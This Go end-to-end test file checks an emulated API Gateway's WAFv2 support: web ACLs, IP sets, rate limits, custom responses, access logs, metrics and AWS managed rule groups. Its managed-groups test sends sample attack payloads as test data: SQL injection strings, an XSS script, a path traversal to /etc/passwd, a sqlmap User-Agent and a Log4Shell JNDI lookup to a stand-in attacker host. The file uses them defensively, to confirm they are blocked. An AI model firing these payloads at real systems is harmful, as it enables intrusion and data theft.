package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// wafACL creates a web ACL from its rules (JSON) with the AWS CLI and
// returns its id, ARN and lock token.
func wafACL(t *testing.T, waf *cliRunner, name, defaultAction, rules string) (id, arn, token string) {
	t.Helper()
	file := filepath.Join(t.TempDir(), name+".json")
	if err := os.WriteFile(file, []byte(rules), 0o600); err != nil {
		t.Fatal(err)
	}
	bodies := filepath.Join(t.TempDir(), name+"-bodies.json")
	if err := os.WriteFile(bodies, []byte(`{"denied":{"ContentType":"APPLICATION_JSON","Content":"{\"denied\":true}"}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s := waf.obj("create-web-acl", "--name", name, "--scope", "REGIONAL", "--default-action", defaultAction,
		"--visibility-config", "SampledRequestsEnabled=true,CloudWatchMetricsEnabled=true,MetricName="+name,
		"--custom-response-bodies", "file://"+bodies, "--rules", "file://"+file)["Summary"].(obj)
	return s["Id"].(string), s["ARN"].(string), s["LockToken"].(string)
}

// wafMetrics returns the gateway's wafv2_* metrics by name with labels.
func wafMetrics(t *testing.T, dp *dataPlane) map[string]float64 {
	t.Helper()
	res, err := http.Get(dp.Endpoint + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	out := map[string]float64{}
	for _, line := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(line, "wafv2_") {
			i := strings.LastIndexByte(line, ' ')
			var v float64
			fmt.Sscan(line[i+1:], &v)
			out[line[:i]] = v
		}
	}
	return out
}

// TestWAFDataPlane protects a REST stage with a web ACL (AWS CLI) and
// checks with curl where and how it answers: before routing (a blocked
// client gets WAF_FILTERED on an unknown route too), the WAF_FILTERED
// gateway response and its customisation, a custom response, labels
// from a Count rule, a rate-based rule, changes to an IP set applied
// without a redeployment, $context.waf* in the access log, the metrics
// per rule and the sampled requests.
func TestWAFDataPlane(t *testing.T) {
	t.Parallel()
	requireAWSCLI(t)
	dp := startDataPlane(t, "")
	c := newCLI(t, dp.Gateway)
	waf := c.service("wafv2")

	a := dp.newAPI(t, "waf-pets")
	a.mock(t, "/pets", "GET", `[{"name":"Rex"}]`)
	a.mock(t, "/pets", "POST", `{"created":true}`)
	a.mock(t, "/echo", "GET", `{"waf":"$input.params('x-amzn-waf-checked')"}`)
	a.deploy(t, "prod")
	logPath := filepath.Join(t.TempDir(), "access.log")
	a.patchStage(t, "prod", replaceOp("/accessLogSettings/destinationArn", logPath),
		replaceOp("/accessLogSettings/format", `{"requestId":"$context.requestId","status":"$context.status","path":"$context.path","webaclArn":"$context.webaclArn","wafResponseCode":"$context.wafResponseCode","wafStatus":"$context.waf.status","wafLatency":"$context.waf.latency","responseType":"$context.error.responseType"}`))
	pets := a.url("prod", "/pets")
	dp.waitFor(t, pets, 200, `[{"name":"Rex"}]`)

	ip := waf.obj("create-ip-set", "--name", "blocked", "--scope", "REGIONAL", "--ip-address-version", "IPV4",
		"--addresses", "198.51.100.0/24")["Summary"].(obj)
	rules := `[
	 {"Name":"blocked-ips","Priority":0,"Action":{"Block":{}},"Statement":{"IPSetReferenceStatement":{"ARN":"` + ip["ARN"].(string) + `"}},
	  "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"blocked-ips"}},
	 {"Name":"tag-tests","Priority":1,"Action":{"Count":{}},"RuleLabels":[{"Name":"test:client"}],
	  "Statement":{"ByteMatchStatement":{"SearchString":"dGVzdA==","FieldToMatch":{"SingleHeader":{"Name":"x-client"}},"TextTransformations":[{"Priority":0,"Type":"LOWERCASE"}],"PositionalConstraint":"STARTS_WITH"}},
	  "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"tag-tests"}},
	 {"Name":"no-tests-posting","Priority":2,"Action":{"Block":{"CustomResponse":{"ResponseCode":429,"CustomResponseBodyKey":"denied","ResponseHeaders":[{"Name":"Retry-After","Value":"60"}]}}},
	  "Statement":{"AndStatement":{"Statements":[{"LabelMatchStatement":{"Scope":"LABEL","Key":"test:client"}},
	   {"ByteMatchStatement":{"SearchString":"UE9TVA==","FieldToMatch":{"Method":{}},"TextTransformations":[{"Priority":0,"Type":"NONE"}],"PositionalConstraint":"EXACTLY"}}]}},
	  "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"no-tests-posting"}},
	 {"Name":"evil-query","Priority":3,"Action":{"Block":{}},
	  "Statement":{"ByteMatchStatement":{"SearchString":"ZXZpbA==","FieldToMatch":{"QueryString":{}},"TextTransformations":[{"Priority":0,"Type":"URL_DECODE"},{"Priority":1,"Type":"LOWERCASE"}],"PositionalConstraint":"CONTAINS"}},
	  "VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"evil-query"}},
	 {"Name":"per-ip","Priority":4,"Action":{"Block":{}},
	  "Statement":{"RateBasedStatement":{"Limit":100,"AggregateKeyType":"IP","ScopeDownStatement":{"ByteMatchStatement":{"SearchString":"cmF0ZQ==","FieldToMatch":{"SingleHeader":{"Name":"x-client"}},"TextTransformations":[{"Priority":0,"Type":"NONE"}],"PositionalConstraint":"EXACTLY"}}}},
	  "VisibilityConfig":{"SampledRequestsEnabled":false,"CloudWatchMetricsEnabled":true,"MetricName":"per-ip"}}
	]`
	_, aclArn, _ := wafACL(t, waf, "shield", `{"Allow":{"CustomRequestHandling":{"InsertHeaders":[{"Name":"checked","Value":"yes"}]}}}`, rules)
	stageArn := "arn:aws:apigateway:us-east-1::/restapis/" + a.ID + "/stages/prod"
	waf.ok(nil, "associate-web-acl", "--web-acl-arn", aclArn, "--resource-arn", stageArn)

	// The association is live within moments, without a redeployment.
	eventually(t, "the web ACL protects the stage", func() error {
		r, _ := tryCurl(pets + "?q=EVIL")
		if r.Status != 403 {
			return fmt.Errorf("got %s", r)
		}
		return nil
	})
	r := curlResult(t, pets+"?q=%65vil")
	if r.Status != 403 || r.Body != `{"message":"Forbidden"}` || r.Header.Get("x-amzn-ErrorType") != "ForbiddenException" ||
		r.Header.Get("Content-Type") != "application/json" || r.Header.Get("x-amzn-RequestId") == "" {
		t.Errorf("WAF_FILTERED: %s %v", r, r.Header)
	}
	// WAF runs before routing: an unknown route is filtered, not 'Missing Authentication Token'.
	if r := curlResult(t, a.url("prod", "/nowhere")+"?evil=1"); r.Status != 403 || r.Body != `{"message":"Forbidden"}` {
		t.Errorf("blocked request to an unknown route: %s", r)
	}
	expect(t, "allowed GET", curlResult(t, pets), 200, `[{"name":"Rex"}]`)
	// The default action inserts x-amzn-waf-checked: the integration sees it.
	expect(t, "inserted header", curlResult(t, a.url("prod", "/echo")), 200, `{"waf":"yes"}`)
	expect(t, "a test client's GET (counted, labelled)", curlResult(t, "-H", "X-Client: Tester", pets), 200, `[{"name":"Rex"}]`)
	r = curlResult(t, "-X", "POST", "-H", "X-Client: tester", pets)
	if r.Status != 429 || r.Body != `{"denied":true}` || r.Header.Get("Retry-After") != "60" || r.Header.Get("Content-Type") != "application/json" ||
		r.Header.Get("x-amzn-ErrorType") != "" {
		t.Errorf("custom response: %s %v", r, r.Header)
	}
	expect(t, "another client's POST", curlResult(t, "-X", "POST", pets), 200, `{"created":true}`)

	// Rate-based: the 101st request of the window is blocked.
	args := []string{"-s", "-w", "%{http_code}\n", "-H", "X-Client: rate"}
	for range 101 {
		args = append(args, "-o", "/dev/null", pets)
	}
	outb, err := exec.Command("curl", args...).Output()
	if err != nil {
		t.Fatal(err)
	}
	out := string(outb)
	codes := strings.Fields(out)
	if len(codes) != 101 || strings.Count(out, "200") != 100 || codes[100] != "403" {
		t.Errorf("101 requests under a limit of 100: %v", codes)
	}

	// The gateway response is customisable (and deployed with the API).
	dp.call(t, "PUT", "/restapis/"+a.ID+"/gatewayresponses/WAF_FILTERED", map[string]any{
		"statusCode": "406", "responseTemplates": map[string]string{"application/json": `{"blocked":"$context.error.responseType"}`}})
	a.deploy(t, "prod")
	dp.waitFor(t, a.url("prod", "/pets?evil=2"), 406, `{"blocked":"WAF_FILTERED"}`)

	// An IP set change applies at once: the local client is now blocked.
	set := waf.obj("get-ip-set", "--name", "blocked", "--scope", "REGIONAL", "--id", ip["Id"].(string))
	waf.ok(nil, "update-ip-set", "--name", "blocked", "--scope", "REGIONAL", "--id", ip["Id"].(string),
		"--lock-token", set["LockToken"].(string), "--addresses", "198.51.100.0/24", "127.0.0.1/32")
	dp.waitFor(t, pets, 406, `{"blocked":"WAF_FILTERED"}`)
	waf.ok(nil, "disassociate-web-acl", "--resource-arn", stageArn)
	dp.waitFor(t, pets, 200, `[{"name":"Rex"}]`)

	// Access log: every request carries the web ACL's verdict.
	var allowed, blocked, custom int
	eventually(t, "access log lines", func() error {
		allowed, blocked, custom = 0, 0, 0
		for _, l := range readAccessLog(t, logPath) {
			switch {
			case l["wafResponseCode"] == "WAF_ALLOW" && l["webaclArn"] == aclArn && l["wafStatus"] == "200" && l["wafLatency"] != "-":
				allowed++
			case l["wafResponseCode"] == "WAF_BLOCK" && l["status"] == "429" && l["wafStatus"] == "429":
				custom++
			case l["wafResponseCode"] == "WAF_BLOCK" && l["responseType"] == "WAF_FILTERED" && l["webaclArn"] == aclArn:
				blocked++
			}
		}
		if allowed < 103 || blocked < 3 || custom != 1 {
			return fmt.Errorf("allowed %d, blocked %d, custom %d", allowed, blocked, custom)
		}
		return nil
	})

	// Metrics per rule.
	m := wafMetrics(t, dp)
	for name, min := range map[string]float64{
		`wafv2_BlockedRequests{rule="evil-query",webacl="shield"}`:       2,
		`wafv2_BlockedRequests{rule="no-tests-posting",webacl="shield"}`: 1,
		`wafv2_CountedRequests{rule="tag-tests",webacl="shield"}`:        2,
		`wafv2_BlockedRequests{rule="per-ip",webacl="shield"}`:           1,
		`wafv2_AllowedRequests{rule="Default_Action",webacl="shield"}`:   100,
		`wafv2_BlockedRequests{rule="ALL",webacl="shield"}`:              4,
	} {
		if m[name] < min {
			t.Errorf("%s = %v, want at least %v", name, m[name], min)
		}
	}

	// Sampled requests of the custom-response rule.
	now := time.Now().UTC()
	sampled := waf.obj("get-sampled-requests", "--web-acl-arn", aclArn, "--rule-metric-name", "no-tests-posting", "--scope", "REGIONAL",
		"--time-window", "StartTime="+now.Add(-10*time.Minute).Format(time.RFC3339)+",EndTime="+now.Add(time.Minute).Format(time.RFC3339), "--max-items", "10")
	samples := sampled["SampledRequests"].([]any)
	if len(samples) != 1 || sampled["PopulationSize"] != float64(1) {
		t.Fatalf("get-sampled-requests: %v", sampled)
	}
	s := samples[0].(obj)
	req := s["Request"].(obj)
	if s["Action"] != "BLOCK" || s["ResponseCodeSent"] != float64(429) || req["Method"] != "POST" || req["URI"] != "/prod/pets" ||
		req["ClientIP"] != "127.0.0.1" || !strings.Contains(fmt.Sprint(s["Labels"]), "awswaf:000000000000:webacl:shield:test:client") {
		b, _ := json.Marshal(s)
		t.Errorf("sample: %s", b)
	}
	checkGatewayLog(t, dp.Gateway)
}

// TestWAFManagedGroups protects a stage with the Core, SQL database and
// Known bad inputs managed rule groups and checks with curl that attacks
// are blocked and ordinary requests are not.
func TestWAFManagedGroups(t *testing.T) {
	t.Parallel()
	requireAWSCLI(t)
	dp := startDataPlane(t, "")
	c := newCLI(t, dp.Gateway)
	waf := c.service("wafv2")
	a := dp.newAPI(t, "waf-managed")
	a.mock(t, "/items", "GET", `{"ok":true}`)
	a.mock(t, "/items", "POST", `{"ok":true}`)
	a.deploy(t, "prod")
	items := a.url("prod", "/items")
	dp.waitFor(t, items, 200, `{"ok":true}`)

	group := func(name string, prio int) string {
		return fmt.Sprintf(`{"Name":%q,"Priority":%d,"OverrideAction":{"None":{}},"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":%q}},`+
			`"VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":%q}}`, name, prio, name, name)
	}
	_, aclArn, _ := wafACL(t, waf, "managed", "Allow={}", "["+group("AWSManagedRulesCommonRuleSet", 0)+","+
		group("AWSManagedRulesSQLiRuleSet", 1)+","+group("AWSManagedRulesKnownBadInputsRuleSet", 2)+"]")
	waf.ok(nil, "associate-web-acl", "--web-acl-arn", aclArn, "--resource-arn", "arn:aws:apigateway:us-east-1::/restapis/"+a.ID+"/stages/prod")
	eventually(t, "the managed groups protect the stage", func() error {
		if r, _ := tryCurl(items + "?id=1%27%20OR%20%271%27%3D%271"); r.Status != 403 {
			return fmt.Errorf("got %s", r)
		}
		return nil
	})
	for _, tc := range []struct {
		what   string
		args   []string
		status int
	}{
		{"a plain GET", []string{items + "?limit=20&sort=-created"}, 200},
		{"a JSON POST", []string{"-X", "POST", "-H", "Content-Type: application/json", "-d", `{"name":"Jane O'Brien","note":"see you at 3pm -- thanks!"}`, items}, 200},
		{"a browser's headers", []string{"-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0", "-H", "Cookie: session=abc123; theme=dark", "-e", "https://www.example.com/", items}, 200},
		{"SQL injection in a query argument", []string{items + "?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"}, 403},
		{"SQL injection in a JSON body", []string{"-X", "POST", "-H", "Content-Type: application/json", "-d", `{"id":"1' OR '1'='1"}`, items}, 403},
		{"XSS in a form body", []string{"-X", "POST", "--data-urlencode", "comment=<script>alert(1)</script>", items}, 403},
		{"path traversal", []string{items + "?file=..%2F..%2F..%2Fetc%2Fpasswd"}, 403},
		{"no User-Agent", []string{"-A", "", items}, 403},
		{"a scanner's User-Agent", []string{"-A", "sqlmap/1.7", items}, 403},
		{"Log4Shell in a header", []string{"-H", "X-Api-Version: ${jndi:ldap://attacker.example/a}", items}, 403},
	} {
		if r := curlResult(t, tc.args...); r.Status != tc.status {
			t.Errorf("%s: %s, want %d", tc.what, r, tc.status)
		}
	}
	checkGatewayLog(t, dp.Gateway)
}
